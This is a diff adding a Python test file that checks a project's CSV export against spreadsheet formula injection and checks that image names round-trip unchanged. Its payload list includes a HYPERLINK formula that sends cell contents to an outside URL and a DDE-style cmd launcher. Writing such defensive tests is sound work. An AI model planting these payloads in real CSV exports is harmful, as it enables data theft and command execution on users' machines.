@@ -1,0 +1,67 @@
+"""Tables of verdicts: no cell is a formula to a spreadsheet, and names come back as they were."""
+
+from __future__ import annotations
+
+import csv
+import io
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from focus_ray.csv_cells import csv_cell, csv_text
+from focus_ray.data.importers.groups import _pairs_of_csv
+from focus_ray.evaluation.table import COLUMNS, table_text
+
+FORMULAS = [
+    "=HYPERLINK(\"https://example.org?\"&A1).png",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "'=1+1",
+    "＝1+1",
+    "a;=1+1",
+    "a;b\t @x",
+    "one\n-two",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("name", FORMULAS)
+@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
+def test_no_cell_of_a_table_begins_like_a_formula_however_a_spreadsheet_splits_it(name: str, delimiter: str) -> None:
+    row = {"image": name, "category": name, "verdict": "normal", "error": name, "score": 0.5}
+    for cells in csv.reader(io.StringIO(table_text([row]), newline=""), delimiter=delimiter):
+        for cell in cells:
+            assert not cell.strip().startswith(("=", "+", "-", "@", "＝")), cell
+
+
+@pytest.mark.parametrize("name", FORMULAS)
+def test_a_name_comes_back_from_a_table(name: str) -> None:
+    (row,) = csv.DictReader(io.StringIO(table_text([{"image": name}]), newline=""))
+    assert csv_text(row["image"]) == name
+
+
+@given(st.text(st.sampled_from("'=+-@\t\r\n ;,\"a＝")))
+def test_every_text_comes_back(text: str) -> None:
+    assert csv_text(csv_cell(text)) == text
+
+
+@pytest.mark.parametrize("number", [-1.5, -3, 1e-9, True, None])
+def test_numbers_stay_numbers(number: Any) -> None:
+    assert csv_cell(number) is number
+    assert table_text([{"score": -1.5}], COLUMNS, header=False) == ",,,-1.5,,,,,,,,,\n"
+
+
+def test_ordinary_names_are_not_changed() -> None:
+    for name in ("part-1.png", "a=b.png", "line 3/bolt_001.png", "it's.png", "2026-01-31"):
+        assert csv_cell(name) == name
+
+
+def test_a_table_of_verdicts_serves_as_a_table_of_groups() -> None:
+    text = table_text([{"image": "=1.png", "category": "-a"}])
+    assert _pairs_of_csv(text, "table.csv", "category", ValueError) == [("=1.png", "-a")]
